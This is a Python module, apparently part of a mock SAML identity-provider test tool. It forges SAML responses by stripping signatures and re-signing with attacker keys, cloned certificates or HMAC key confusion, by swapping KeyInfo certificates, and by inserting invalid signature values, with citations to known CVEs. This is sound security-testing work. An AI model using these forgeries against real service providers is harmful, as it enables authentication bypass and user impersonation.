"""Key and algorithm attacks: re-signing with the attacker's key, key confusion, and deviant signature profiles.

Sources: SAMLRaider's re-sign and certificate cloning, pysaml2's HMAC key-data
fixtures (CVE-2021-21239), xml-crypto GHSA-c27r-x354-4m68 (HMAC keyed with the public certificate), pysaml2
7.1.0's transform rules. ``resign_profile`` signs with the IdP's real key, so only the profile rule under
test is broken: an SP that does not enforce it would accept the response.
"""

from __future__ import annotations

import base64
import copy
from datetime import UTC, datetime, timedelta
from functools import lru_cache

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID
from lxml import etree

from mock_idp.attacks.common import first_assertion, make_evil
from mock_idp.attacks.dsig import (
    C14N_METHODS,
    DIGEST_METHODS,
    SIGNATURE_METHODS,
    TRANSFORMS,
    Profile,
    SigningKey,
    direct_signature,
    ds,
    hmac_key_info,
    lookup,
    remove,
    sign_enveloped,
    x509_key_info,
)
from mock_idp.keys import Credential
from mock_idp.op_registry import OpContext, op

HMAC_SECRET = b"FOO\n"
"""The key pysaml2's HMAC fixtures carry in ``HMACKeyValue`` (base64 ``Rk9PCg==``)."""
ATTACKER_CN = "attacker.example"
FOREIGN_CN = "foreign.example"
INVALID_SIGNATURE_VALUE = base64.b64encode(b"This is the invalid signature").decode("ascii")
"""saml2webssotest's LoginSignatureVerification value."""


@lru_cache(maxsize=4)
def attacker_key(label: str) -> rsa.RSAPrivateKey:
    """Return a process-wide RSA key per ``label`` (generating keys per login would be slow)."""
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def self_signed(common_name: str) -> x509.Certificate:
    """Return a self-signed certificate for the attacker's key, named ``common_name``."""
    key = attacker_key(common_name)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    now = datetime.now(UTC)
    return (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=365))
        .sign(key, hashes.SHA256())
    )


def cloned(original: x509.Certificate) -> x509.Certificate:
    """SAMLRaider's certificate cloning: same subject, issuer, serial and validity; the attacker's key."""
    key = attacker_key("cloned")
    return (
        x509.CertificateBuilder()
        .subject_name(original.subject)
        .issuer_name(original.issuer)
        .public_key(key.public_key())
        .serial_number(original.serial_number)
        .not_valid_before(original.not_valid_before_utc)
        .not_valid_after(original.not_valid_after_utc)
        .sign(key, hashes.SHA256())
    )


def embedded_certificate(root: etree._Element) -> x509.Certificate:
    """Return the first X509Certificate found in the document (the IdP's, before any change)."""
    found = root.find(f".//{ds('X509Certificate')}")
    if found is None or not found.text:
        raise ValueError("the response carries no X509Certificate to clone")
    return x509.load_der_x509_certificate(base64.b64decode("".join(found.text.split())))


def _der(certificate: x509.Certificate) -> bytes:
    return certificate.public_bytes(Encoding.DER)


def _idp(ctx: OpContext) -> Credential:
    if ctx.credential is None:
        raise ValueError("this op needs the IdP credential in the op context")
    return ctx.credential


def attacker_signing(root: etree._Element, ctx: OpContext, key: str) -> tuple[SigningKey, etree._Element, str]:
    """Return (signing key, KeyInfo, default SignatureMethod) for ``key`` (see ``resign``)."""
    if key == "self_signed":
        certificate = self_signed(ATTACKER_CN)
        return SigningKey(rsa_key=attacker_key(ATTACKER_CN)), x509_key_info(_der(certificate)), "rsa-sha256"
    if key == "cloned":
        certificate = cloned(embedded_certificate(root))
        return SigningKey(rsa_key=attacker_key("cloned")), x509_key_info(_der(certificate)), "rsa-sha256"
    if key == "hmac":
        return SigningKey(hmac_secret=HMAC_SECRET), hmac_key_info(HMAC_SECRET), "hmac-sha1"
    if key == "hmac_cert":
        certificate = embedded_certificate(root)
        secret = certificate.public_bytes(Encoding.PEM)
        return SigningKey(hmac_secret=secret), x509_key_info(_der(certificate)), "hmac-sha256"
    if key == "idp":
        credential = _idp(ctx)
        return SigningKey(rsa_key=credential.private_key), x509_key_info(_der(credential.certificate)), "rsa-sha256"
    raise ValueError(f"resign: key must be self_signed, cloned, hmac, hmac_cert or idp, got {key!r}")


def _elements(root: etree._Element, target: str) -> list[etree._Element]:
    """Return what to sign for ``target``, the assertion first (the Response digest must cover its signature)."""
    choices = {"assertion": [first_assertion(root)], "response": [root], "both": [first_assertion(root), root]}
    if target not in choices:
        raise ValueError(f"target must be response, assertion or both, got {target!r}")
    return choices[target]


@op("resign", stages=("post_sign",))
def resign(
    root: etree._Element,
    ctx: OpContext,
    key: str,
    target: str = "both",
    forge: bool = True,
    evil: str | None = None,
    signature_method: str | None = None,
) -> None:
    """Strip every signature, forge the identity (``forge``), and sign ``target`` with the attacker's ``key``.

    Keys: ``self_signed`` (fresh key, cert in KeyInfo), ``cloned`` (the IdP cert's names and serial, new key),
    ``hmac`` (HMAC-SHA1 keyed with "FOO\\n" carried in KeyValue/HMACKeyValue), ``hmac_cert`` (HMAC keyed with
    the IdP's public certificate), ``idp`` (the IdP's own key: a genuine re-signature).
    """
    signing_key, key_info, default_method = attacker_signing(root, ctx, key)
    method = lookup(SIGNATURE_METHODS, signature_method or default_method, "signature_method")
    for signature in list(root.iter(ds("Signature"))):
        remove(signature)
    if forge:
        make_evil(first_assertion(root), ctx, evil)
    for element in _elements(root, target):
        sign_enveloped(root, element, signing_key, copy.deepcopy(key_info), Profile(method))


@op("resign_profile", stages=("post_sign",))
def resign_profile(
    root: etree._Element,
    ctx: OpContext,
    target: str = "assertion",
    signature_method: str = "rsa-sha256",
    digest_method: str = "sha256",
    c14n_method: str = "exc_c14n",
    transforms: list[str] | None = None,
    reference_uri: str | None = None,
    references: int = 1,
    with_object: bool = False,
    xslt_url: str = "http://127.0.0.1:9/xslt",
) -> None:
    """Re-sign ``target`` with the IdP's key under a deviant profile; a signed Response is re-signed after it.

    ``transforms`` are names from ``dsig.TRANSFORMS`` (default enveloped + exc_c14n); ``reference_uri`` "" is
    the empty same-document reference, "absent" drops the URI attribute; ``references`` > 1 repeats the Reference.
    """
    if target not in ("assertion", "response"):
        raise ValueError(f"resign_profile: target must be assertion or response, got {target!r}")
    credential = _idp(ctx)
    signing_key = SigningKey(rsa_key=credential.private_key)
    profile = Profile(
        signature_method=lookup(SIGNATURE_METHODS, signature_method, "signature_method"),
        digest_method=lookup(DIGEST_METHODS, digest_method, "digest_method"),
        c14n_method=lookup(C14N_METHODS, c14n_method, "c14n_method"),
        transforms=tuple(lookup(TRANSFORMS, t, "transform") for t in (transforms or ["enveloped", "exc_c14n"])),
        reference_uri=reference_uri,
        references=references,
        with_object=with_object,
    )
    element = first_assertion(root) if target == "assertion" else root
    response_signed = direct_signature(root) is not None
    for signed in {element, root} if target == "assertion" else {root}:
        old = direct_signature(signed)
        if old is not None:
            remove(old)
    key_info = x509_key_info(_der(credential.certificate))
    sign_enveloped(root, element, signing_key, key_info, profile, xslt_url=xslt_url)
    if target == "assertion" and response_signed:
        sign_enveloped(root, root, signing_key, x509_key_info(_der(credential.certificate)))


@op("replace_key_info", stages=("post_sign",))
def replace_key_info(root: etree._Element, ctx: OpContext, target: str, mode: str = "replace") -> None:
    """Keep the IdP's valid signature on ``target`` but put a foreign certificate or key in its KeyInfo.

    ``replace``: the X509Certificate becomes a foreign self-signed one; ``append``: the foreign one is added
    first; ``key_value``: a foreign ds:KeyValue is added beside the X509Data.
    """
    element = {"response": root, "assertion": first_assertion(root)}.get(target)
    if element is None:
        raise ValueError(f"replace_key_info: target must be response or assertion, got {target!r}")
    signature = direct_signature(element)
    path = f"{ds('KeyInfo')}/{ds('X509Data')}/{ds('X509Certificate')}"
    certificate = None if signature is None else signature.find(path)
    if signature is None or certificate is None:
        raise ValueError(f"replace_key_info: the {target} has no signature with an X509Certificate")
    foreign = x509_key_info(_der(self_signed(FOREIGN_CN))).find(f".//{ds('X509Certificate')}")
    assert foreign is not None
    if mode == "replace":
        certificate.text = foreign.text
    elif mode == "append":
        certificate.addprevious(foreign)
    elif mode == "key_value":
        numbers = attacker_key(FOREIGN_CN).public_key().public_numbers()
        key_value = etree.Element(ds("KeyValue"))
        rsa_value = etree.SubElement(key_value, ds("RSAKeyValue"))
        etree.SubElement(rsa_value, ds("Modulus")).text = _b64_int(numbers.n)
        etree.SubElement(rsa_value, ds("Exponent")).text = _b64_int(numbers.e)
        x509_data = certificate.getparent()
        assert x509_data is not None
        x509_data.addprevious(key_value)
    else:
        raise ValueError(f"replace_key_info: mode must be replace, append or key_value, got {mode!r}")


def _b64_int(value: int) -> str:
    return base64.b64encode(value.to_bytes((value.bit_length() + 7) // 8, "big")).decode("ascii")


@op("set_signature_value", stages=("post_sign",))
def set_signature_value(
    root: etree._Element, ctx: OpContext, target: str, value: str = INVALID_SIGNATURE_VALUE
) -> None:
    """Replace the SignatureValue of ``target``'s signature (saml2webssotest's bad-signature case)."""
    element = {"response": root, "assertion": first_assertion(root)}.get(target)
    signature = None if element is None else direct_signature(element)
    found = None if signature is None else signature.find(ds("SignatureValue"))
    if found is None:
        raise ValueError(f"set_signature_value: the {target} has no SignatureValue")
    found.text = value
